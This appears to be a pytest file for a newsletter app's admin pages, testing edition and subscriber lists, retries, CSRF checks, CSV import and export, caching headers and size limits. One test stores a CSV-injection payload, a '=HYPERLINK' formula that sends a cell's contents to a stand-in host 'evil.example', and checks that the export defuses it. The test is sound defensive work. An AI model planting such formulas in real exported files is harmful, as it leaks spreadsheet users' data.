"""/admin/editions and /admin/subscribers: lists, pages, and the actions the CLI has (retry,
add, unsubscribe, erase, import, export), through the app's HTTP endpoints on a real database,
with a real SMTP server receiving the mail."""

from __future__ import annotations

import csv
import html
import io
import re
from urllib.parse import urljoin

from sqlmodel import select

import test_admin
from conftest import run_digest
from digest.mail.mailer import SMTPMailer
from digest.service import pipeline as jobs
from digest.service import subscribers as subs
from digest.service.admin import editions as edition_pages
from digest.service.admin import subscribers as subscriber_pages
from digest.store.models import Delivery, Edition, Subscriber, SubscriberStatus
from test_admin import csrf_of, wait_until

# test_admin's fixtures: an admin account, the app, and the app signed in as that admin
admin, client, signed_in = test_admin.admin, test_admin.client, test_admin.signed_in

REFUSED = "550 5.7.1 <b>refused</b> by policy"  # a permanent failure, not a bounce (5.1.x): retried


def sent_with_failures(db, settings, clock, smtp_server, refused: list[str], ok: list[str]) -> Edition:
    jobs.poll(db, settings, clock)
    for address in ok + refused + list(smtp_server.refuse):
        subs.add(db, address, clock)
    for address in refused:
        smtp_server.refuse[address] = REFUSED
    jobs.send(db, settings, SMTPMailer(settings.smtp), clock)
    return db.exec(select(Edition)).one()


def follow(browser, url: str, rel: str = "next") -> list[str]:
    """The pages from `url` on, following rel="next" links: their HTML."""
    pages = []
    while url:
        page = browser.get(url)
        assert page.status_code == 200, url
        pages.append(page.text)
        link = re.search(rf'<a href="([^"]+)" rel="{rel}">', page.text)
        url = urljoin(url, html.unescape(link.group(1))) if link else None
    return pages


# --- editions -----------------------------------------------------------------------------------


def test_the_editions_show_their_counts_and_each_failure_with_the_servers_reply(signed_in, db, settings, clock,
                                                                                 smtp_server):
    edition = sent_with_failures(db, settings, clock, smtp_server, ["gone@example.com"],
                                 ["a@example.com", "b@example.com"])
    listing = signed_in.get("/admin/editions").text
    assert re.search(rf'<a href="/admin/editions/{edition.number}">{edition.number}</a></th>.*?<td>sent</td>'
                     r"<td>3</td><td>2</td><td>1</td><td>0</td><td>0</td><td>0</td>", listing, re.S)
    page = signed_in.get(f"/admin/editions/{edition.number}").text
    assert re.search(r"<dt>delivered</dt><dd>2</dd>", page) and re.search(r"<dt>failed</dt><dd>1</dd>", page)
    assert "<th scope=\"row\">gone@example.com</th>" in page
    assert "550 5.7.1 &lt;b&gt;refused&lt;/b&gt; by policy" in page and "<b>refused" not in page
    assert "Retry failed deliveries" in page
    assert signed_in.get("/admin/editions/999").status_code == 404


def test_retry_failed_queues_the_failures_again_and_the_background_delivers_them(signed_in, db, settings, clock,
                                                                               smtp_server):
    smtp_server.refuse["gone@example.com"] = "550 5.1.1 no such mailbox"  # bounced: not retried
    edition = sent_with_failures(db, settings, clock, smtp_server, ["late@example.com"], ["a@example.com"])
    smtp_server.refuse.clear()  # the readers' servers work again
    page = signed_in.get(f"/admin/editions/{edition.number}")
    path = f"/admin/editions/{edition.number}/retry"
    assert signed_in.post(path, data={}, follow_redirects=False).status_code == 403
    assert signed_in.post(path, data={"csrf": "forged"}, follow_redirects=False).status_code == 403
    assert smtp_server.to("late@example.com") == []
    r = signed_in.post(path, data={"csrf": csrf_of(page.text)}, follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"] == f"/admin/editions/{edition.number}?retried=1"
    assert "1 delivery queued again" in signed_in.get(r.headers["location"]).text
    wait_until(lambda: smtp_server.to("late@example.com"))
    wait_until(lambda: re.search(r"<dt>delivered</dt><dd>2</dd>", signed_in.get(f"/admin/editions/{edition.number}").text))
    after = signed_in.get(f"/admin/editions/{edition.number}").text
    assert re.search(r"<dt>failed</dt><dd>1</dd>", after) and "late@example.com" not in after
    assert '<th scope="row">gone@example.com</th><td>1</td><td>550 5.1.1 no such mailbox</td>' in after
    assert len(smtp_server.to("a@example.com")) == 1  # delivered once, not again
    assert smtp_server.to("gone@example.com") == []


def test_failures_come_a_page_at_a_time_each_once(signed_in, db, settings, clock, smtp_server, monkeypatch):
    refused = [f"gone{i}@example.com" for i in range(5)]
    edition = sent_with_failures(db, settings, clock, smtp_server, refused, [])
    monkeypatch.setattr(edition_pages, "PAGE", 2)
    pages = follow(signed_in, f"/admin/editions/{edition.number}")
    assert len(pages) == 3
    shown = [a for p in pages for a in re.findall(r'<th scope="row">(gone\d@example.com)</th>', p)]
    assert sorted(shown) == refused


def test_the_editions_list_pages_back_to_the_first(signed_in, db, settings, clock, monkeypatch):
    for number in range(1, 6):
        db.add(Edition(number=number, created_at=clock(), subject=f"Issue {number}", recipients=0))
    db.commit()
    monkeypatch.setattr(edition_pages, "PAGE", 2)
    pages = follow(signed_in, "/admin/editions")
    shown = [int(n) for p in pages for n in re.findall(r"<td><a href=\"/admin/editions/\d+\">Issue (\d+)</a>", p)]
    assert shown == [5, 4, 3, 2, 1]


# --- subscribers: list, search, filters ----------------------------------------------------------


def make_list(db, clock) -> dict[str, Subscriber]:
    people = {
        "ann@example.com": ("Ann <b>x</b>", SubscriberStatus.active, None),
        "anna@example.org": ("Anna Smith", SubscriberStatus.active, ["Rust"]),
        "bob@example.com": ("Bob", SubscriberStatus.unsubscribed, None),
        "carl@example.net": (None, SubscriberStatus.active, ["Go"]),
        "dana@example.com": ("Dana Smith", SubscriberStatus.bounced, ["Rust", "Go"]),
        "an_y@example.com": ("Any", SubscriberStatus.active, ["Go"]),
        "eve@smith.example": ("Eve", SubscriberStatus.active, None),
    }
    made = {}
    for email, (name, status, topics) in people.items():
        sub, _ = subs.add(db, email, clock, name=name)
        sub.status, sub.topics = status, topics
        db.add(sub)
        db.commit()
        made[email] = sub
    return made


def addresses(pages: list[str]) -> list[str]:
    return [a for p in pages for a in re.findall(r'<th scope="row"><a href="/admin/subscribers/\d+">([^<]+)</a>', p)]


def test_search_filters_and_pages_show_each_subscriber_exactly_once(signed_in, db, clock, monkeypatch):
    everyone = make_list(db, clock)
    monkeypatch.setattr(subscriber_pages, "PAGE", 2)
    monkeypatch.setattr(subscriber_pages, "WINDOW", 3)  # "contains" and topic pages look through 3 ids each
    cases = {
        "": list(everyone),
        "?q=an": ["ann@example.com", "anna@example.org", "an_y@example.com"],  # addresses starting with "an"
        "?q=AN_": ["an_y@example.com"],  # _ is a character, not a wildcard; case does not matter
        "?q=smith&match=contains": ["anna@example.org", "dana@example.com", "eve@smith.example"],
        "?q=%25&match=contains": [],
        "?status=active": [e for e, s in everyone.items() if s.status == SubscriberStatus.active],
        "?topic=Rust": ["ann@example.com", "anna@example.org", "bob@example.com", "dana@example.com",
                        "eve@smith.example"],  # who chose it, and who chose none (every topic)
        "?topic=Go&status=active&q=a&match=contains": ["ann@example.com", "carl@example.net", "an_y@example.com",
                                                       "eve@smith.example"],
    }
    for query, expected in cases.items():
        pages = follow(signed_in, "/admin/subscribers" + query)
        shown = addresses(pages)
        assert len(shown) == len(set(shown)), query
        assert shown == sorted(expected, key=lambda e: -everyone[e].id), query
    windowed = follow(signed_in, "/admin/subscribers?topic=Rust")
    assert "Looked through subscribers #5 to #7" in windowed[0]


def test_names_are_shown_as_text_not_markup(signed_in, db, clock):
    sub = make_list(db, clock)["ann@example.com"]
    for page in (signed_in.get("/admin/subscribers").text, signed_in.get(f"/admin/subscribers/{sub.id}").text):
        assert "Ann &lt;b&gt;x&lt;/b&gt;" in page and "<b>x</b>" not in page


def test_a_subscribers_page_shows_deliveries_bounces_and_topics(signed_in, db, settings, clock, smtp_server):
    edition = sent_with_failures(db, settings, clock, smtp_server, ["gone@example.com"], ["a@example.com"])
    gone = subs.get(db, "gone@example.com")
    delivery = db.exec(select(Delivery).where(Delivery.subscriber_id == gone.id)).one()
    delivery.last_error = "bounced (hard): 5.1.1 user unknown"
    gone.topics = ["Rust", "Go & more"]
    db.add_all([delivery, gone])
    db.commit()
    page = signed_in.get(f"/admin/subscribers/{gone.id}").text
    assert "<td>Go &amp; more, Rust</td>" in page
    bounces = page.split('id="bounces"')[1].split("</section>")[0]
    assert f">{edition.number}</a></th><td>bounced (hard): 5.1.1 user unknown</td>" in bounces
    assert "<td>failed</td>" in page.split('id="deliveries"')[1]
    assert signed_in.get("/admin/subscribers/999999").status_code == 404


# --- subscribers: actions -------------------------------------------------------------------------


def test_add_and_unsubscribe_as_the_cli_does(signed_in, db):
    token = csrf_of(signed_in.get("/admin/subscribers").text)
    assert signed_in.post("/admin/subscribers/add", data={"email": "new@example.com"},
                          follow_redirects=False).status_code == 403
    bad = signed_in.post("/admin/subscribers/add", data={"email": "not an address", "csrf": token})
    assert bad.status_code == 400 and "not a valid email address: &#39;not an address&#39;" in bad.text
    r = signed_in.post("/admin/subscribers/add", data={"email": "New@Example.com", "name": "Newt", "csrf": token},
                       follow_redirects=False)
    assert r.status_code == 303
    sub = subs.get(db, "new@example.com")
    assert sub.status == SubscriberStatus.active and sub.name == "Newt"
    assert r.headers["location"] == f"/admin/subscribers/{sub.id}?notice=added"
    path = f"/admin/subscribers/{sub.id}/unsubscribe"
    assert signed_in.post(path, data={"csrf": "forged"}, follow_redirects=False).status_code == 403
    done = signed_in.post(path, data={"csrf": token})
    assert "Unsubscribed: new@example.com gets no more editions" in done.text
    db.expire_all()
    assert subs.get(db, "new@example.com").status == SubscriberStatus.unsubscribed


def test_erase_asks_first_then_removes_the_row(signed_in, db, settings, clock, smtp_server):
    sent_with_failures(db, settings, clock, smtp_server, [], ["erase.me@example.com"])
    sub = subs.get(db, "erase.me@example.com")
    token = csrf_of(signed_in.get(f"/admin/subscribers/{sub.id}").text)
    assert signed_in.post(f"/admin/subscribers/{sub.id}/erase/confirm", data={},
                          follow_redirects=False).status_code == 403
    asked = signed_in.post(f"/admin/subscribers/{sub.id}/erase", data={"csrf": token})
    assert asked.status_code == 200 and "Erase erase.me@example.com?" in asked.text and "1 delivery stay" in asked.text
    db.expire_all()
    assert subs.find(db, "erase.me@example.com") is not None  # asking erased nothing
    r = signed_in.post(f"/admin/subscribers/{sub.id}/erase/confirm", data={"csrf": csrf_of(asked.text)},
                       follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"] == "/admin/subscribers?notice=erased"
    db.expire_all()
    assert subs.find(db, "erase.me@example.com") is None
    assert [d.subscriber_id for d in db.exec(select(Delivery)).all()] == [None]  # counted, anonymous


def test_import_reports_each_bad_row_by_its_line(signed_in, db, clock):
    token = csrf_of(signed_in.get("/admin/subscribers").text)
    subs.add(db, "old@example.com", clock)
    data = "email,name\nnew@example.com,New <i>one</i>\nnot-an-address,Bad\nold@example.com,\nx@example.com,X,Paris\n"
    files = {"file": ("people.csv", data.encode(), "text/csv")}
    assert signed_in.post("/admin/subscribers/import", files=files, follow_redirects=False).status_code == 403
    page = signed_in.post("/admin/subscribers/import", data={"csrf": token}, files=files)
    assert page.status_code == 200
    assert "Imported 1, skipped 1 already on the list, 2 bad rows." in page.text
    assert "<li>people.csv:3: not a valid email address: &#39;not-an-address&#39;" in page.text
    assert "<li>people.csv:5: 3 columns; expected email[,name]</li>" in page.text
    assert subs.get(db, "new@example.com").name == "New <i>one</i>"
    latin1 = {"file": ("excel.csv", "email,name\nzoe@example.com,Zoë\n".encode("latin-1"), "text/csv")}
    refused = signed_in.post("/admin/subscribers/import", data={"csrf": token}, files=latin1)
    assert refused.status_code == 400 and "excel.csv:2: not UTF-8 (byte 0xeb); nothing imported" in refused.text
    assert subs.find(db, "zoe@example.com") is None


def test_import_refuses_a_file_over_the_limit(signed_in, db, monkeypatch):
    monkeypatch.setattr(subscriber_pages, "IMPORT_LIMIT", 100)
    token = csrf_of(signed_in.get("/admin/subscribers").text)
    data = "".join(f"reader{i}@example.com\n" for i in range(10)).encode()
    r = signed_in.post("/admin/subscribers/import", data={"csrf": token}, files={"file": ("big.csv", data, "text/csv")})
    assert r.status_code == 400 and "big.csv: larger than" in r.text and "nothing imported" in r.text
    assert db.exec(select(Subscriber)).all() == []


def test_export_is_a_download_of_what_the_cli_exports(signed_in, db, clock, config_path):
    make_list(db, clock)
    for query, args in (("", ()), ("?status=active", ("--status", "active"))):
        r = signed_in.get("/admin/subscribers/export" + query)
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
        assert r.headers["content-disposition"].startswith('attachment; filename="subscribers-')
        cli = run_digest(config_path, "subscribers", "export", *args, check=True).stdout
        assert r.text == cli
    assert "Ann <b>x</b>" in signed_in.get("/admin/subscribers/export").text  # CSV, not HTML: the name as it is


def test_the_new_pages_need_a_sign_in_and_are_never_cached(client, signed_in, db, clock):
    sub = make_list(db, clock)["bob@example.com"]
    for path in ("/admin/editions", "/admin/subscribers", f"/admin/subscribers/{sub.id}"):
        r = signed_in.get(path)
        assert r.status_code == 200 and r.headers["cache-control"] == "no-store", path
        assert "script-src 'none'" in r.headers["content-security-policy"], path
    signed_in.cookies.clear()
    for path in ("/admin/editions", "/admin/subscribers", "/admin/subscribers/export", f"/admin/subscribers/{sub.id}"):
        r = signed_in.get(path, follow_redirects=False)
        assert r.status_code == 303 and r.headers["location"] == "/admin/login", path


# --- cadences ------------------------------------------------------------------------------------


def test_two_cadences_each_with_an_edition_1_each_shown_and_retried_as_its_own(tmp_path, smtp_server):
    """A daily cadence beside the weekly one: both have an edition 1; the admin pages keep them
    apart (lists, pages, retry, the subscriber's page and filter), and the overview shows each
    cadence's next send with the posts it would carry."""
    from test_cadences import Publication

    blog = Publication(tmp_path, smtp_server)
    try:
        test_admin.accounts.add(blog.session, test_admin.BOSS, test_admin.PASSWORD, blog.clock)
        blog.reader("ann@example.com", "daily")
        blog.reader("late@example.com", "daily")
        blog.reader("bob@example.com")
        smtp_server.refuse["late@example.com"] = REFUSED
        blog.send("daily")  # daily 1: posts 1, 2; late's refused
        smtp_server.refuse.clear()
        blog.send()  # weekly 1: posts 1, 2
        blog.new_post()
        blog.send("daily")  # daily 2: post 3
        with test_admin.TestClient(test_admin.create_app(blog.settings, clock=blog.clock)) as browser:
            assert test_admin.sign_in(browser).status_code == 303
            listing = browser.get("/admin/editions").text
            rows = re.findall(r'<tr[^>]*><td>(\w+)</td><th scope="row"><a href="([^"]+)">(\d+)</a>', listing)
            assert rows == [("daily", "/admin/editions/daily/2", "2"), ("weekly", "/admin/editions/1", "1"),
                            ("daily", "/admin/editions/daily/1", "1")]
            daily_only = browser.get("/admin/editions?cadence=daily").text
            assert re.findall(r'<th scope="row"><a href="([^"]+)">', daily_only) == ["/admin/editions/daily/2",
                                                                                   "/admin/editions/daily/1"]

            daily_1 = browser.get("/admin/editions/daily/1").text
            assert "<h1>Daily edition 1:" in daily_1 and re.search(r"<dt>failed</dt><dd>1</dd>", daily_1)
            assert '<th scope="row">late@example.com</th>' in daily_1
            weekly_1 = browser.get("/admin/editions/1").text
            assert "<h1>Weekly edition 1:" in weekly_1 and re.search(r"<dt>failed</dt><dd>0</dd>", weekly_1)
            assert "late@example.com" not in weekly_1 and "Retry failed deliveries" not in weekly_1
            assert browser.get("/admin/editions/weekly/1").text == weekly_1
            assert browser.get("/admin/editions/daily/3").status_code == 404
            assert browser.get("/admin/editions/2").status_code == 404  # weekly has one edition

            r = browser.post("/admin/editions/daily/1/retry", data={"csrf": csrf_of(daily_1)}, follow_redirects=False)
            assert r.status_code == 303 and r.headers["location"] == "/admin/editions/daily/1?retried=1"
            wait_until(lambda: smtp_server.to("late@example.com"))
            assert len(smtp_server.to("late@example.com")) == 1 and len(smtp_server.to("bob@example.com")) == 1

            ann = subs.get(blog.session, "ann@example.com")
            ann_page = browser.get(f"/admin/subscribers/{ann.id}").text
            assert '<th scope="row">cadence</th><td>daily</td>' in ann_page
            assert re.findall(r'<a href="(/admin/editions/[^"]+)">daily \d</a>', ann_page) == [
                "/admin/editions/daily/2", "/admin/editions/daily/1"]
            bob = subs.get(blog.session, "bob@example.com")
            assert '<th scope="row">cadence</th><td>weekly</td>' in browser.get(f"/admin/subscribers/{bob.id}").text
            daily_readers = browser.get("/admin/subscribers?cadence=daily").text
            assert sorted(re.findall(r'">([a-z]+@example\.com)</a></th>', daily_readers)) == ["ann@example.com",
                                                                                             "late@example.com"]
            weekly_readers = browser.get("/admin/subscribers?cadence=weekly").text
            assert re.findall(r'">([a-z]+@example\.com)</a></th>', weekly_readers) == ["bob@example.com"]
            assert browser.get("/admin/subscribers?cadence=hourly").status_code == 404
            # The export names each reader's cadence, as `digest subscribers export` does.
            exported = browser.get("/admin/subscribers/export").text
            assert exported.splitlines()[0].endswith(",topics,cadence")
            expected = io.StringIO()
            csv.writer(expected, lineterminator="\n").writerows(subs.export_rows(blog.session, None, blog.cadences))
            assert exported == expected.getvalue()  # what the CLI writes (cli.subscribers_export)
            assert {line.split(",")[0]: line.split(",")[-1] for line in exported.splitlines()[1:]} == {
                "ann@example.com": "daily", "late@example.com": "daily", "bob@example.com": "weekly"}

            blog.new_post()  # post 4: new to both; post 3 is in daily 2 already, not yet in a weekly one
            jobs.poll(blog.session, blog.settings, blog.clock)
            overview = browser.get("/admin").text
            weekly, daily = overview.split("<h3>Weekly</h3>")[1].split("<h3>Daily</h3>")
            assert "2 posts would go in" in weekly and "1 post would go in" in daily
            assert "0 7 * * *" in daily and "0 9 * * mon" in weekly
            nxt = browser.get("/admin/next").text
            assert "<h1>Next weekly edition</h1>" in nxt and "digest send --cadence NAME" in nxt
    finally:
        blog.close()


def test_export_cells_a_spreadsheet_would_run_as_formulas_are_text_and_import_back_as_they_were(
        signed_in, db, clock, tmp_path, config_path):
    # A reader chooses their own name on the public form, and `=`, `+` and `-` may start an address:
    # opened in a spreadsheet, such a cell would be a formula (OWASP "CSV injection").
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    subs.add(db, "=sum@example.com", clock, name=formula)
    subs.add(db, "ann@example.com", clock, name="-1+2")
    subs.add(db, "bob@example.com", clock, name="Bob = Robert")
    exported = signed_in.get("/admin/subscribers/export").text
    assert exported == run_digest(config_path, "subscribers", "export", check=True).stdout
    cells = {row[0]: row[1] for row in csv.reader(io.StringIO(exported))}
    assert cells["'=sum@example.com"] == "'" + formula
    assert cells["ann@example.com"] == "'-1+2"
    assert cells["bob@example.com"] == "Bob = Robert"  # only a cell's first character makes it a formula
    for sub in db.exec(select(Subscriber)).all():
        subs.erase(db, sub)
    # the address and name columns, as a spreadsheet saves them (the import takes email[,name])
    with open(tmp_path / "back.csv", "w", newline="") as back:
        csv.writer(back).writerows(row[:2] for row in csv.reader(io.StringIO(exported)))
    run_digest(config_path, "subscribers", "import", str(tmp_path / "back.csv"), check=True)
    db.expire_all()
    assert subs.get(db, "=sum@example.com").name == formula
    assert subs.get(db, "ann@example.com").name == "-1+2"


def test_a_body_over_the_limit_is_refused_before_it_is_read_or_anyone_is_signed_in(client, signed_in, db):
    # Not signed in: the import's upload is refused by its size, not read to the end (to a
    # temporary file) before the redirect to the login page; the readers' form takes no megabytes.
    token = csrf_of(signed_in.get("/admin/subscribers").text)
    outsider = test_admin.TestClient(client.app)
    huge = b"reader@example.com\n" * (subscriber_pages.IMPORT_LIMIT // 19 + 10_000)
    r = outsider.post("/admin/subscribers/import", data={"csrf": "x"}, files={"file": ("huge.csv", huge, "text/csv")},
                      follow_redirects=False)
    assert r.status_code == 413
    r = outsider.post("/subscribe", data={"email": "ann@example.com", "name": "A" * 1_000_000})
    assert r.status_code == 413
    assert db.exec(select(Subscriber)).all() == []
    # A file under the limit is imported as before, signed in.
    files = {"file": ("ok.csv", b"email\n" + b"".join(b"r%d@example.com\n" % i for i in range(50_000)), "text/csv")}
    page = signed_in.post("/admin/subscribers/import", data={"csrf": token}, files=files)
    assert page.status_code == 200 and "Imported 50,000," in page.text
